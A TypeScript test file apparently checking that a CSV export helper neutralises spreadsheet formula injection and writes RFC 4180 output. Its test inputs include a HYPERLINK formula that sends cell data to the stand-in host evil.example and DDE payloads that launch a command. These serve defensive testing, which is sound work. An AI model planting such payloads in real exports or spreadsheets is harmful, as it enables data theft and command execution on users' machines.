import { describe, expect, it } from 'vitest'
import { csvCell, csvRow, renderCsv } from './csv-cell.ts'

describe('csvCell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', `"'  =1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['－1+1', `"'－1+1"`],
    ['-', `"'-"`],
    ['-1+1', `"'-1+1"`],
    ['-1e5', `"'-1e5"`],
  ])('neutralises a formula-like cell: %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected)
  })

  it.each([
    ['沈阳盛京智能科技有限公司', '沈阳盛京智能科技有限公司'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a=b', 'a=b'],
    ['user@example.com', 'user@example.com'],
    ['', ''],
  ])('writes ordinary text as RFC 4180: %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected)
  })

  it('leaves numbers, negative ones included, as numbers (they cannot be formulas)', () => {
    expect(csvCell(-1250)).toBe('-1250')
    expect(csvCell('-12.50')).toBe('-12.50')
    expect(csvCell('-1250')).toBe('-1250')
    expect(csvCell(0)).toBe('0')
    expect(csvCell(12.5)).toBe('12.5')
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell(true)).toBe('true')
  })
})

describe('renderCsv', () => {
  it('writes a BOM, commas and CRLF line ends', () => {
    expect(
      renderCsv([
        ['a', 'b'],
        ['=x', -1],
      ]),
    ).toBe(`\uFEFFa,b\r\n"'=x",-1\r\n`)
    expect(csvRow(['x', null, 3])).toBe('x,,3')
  })
})
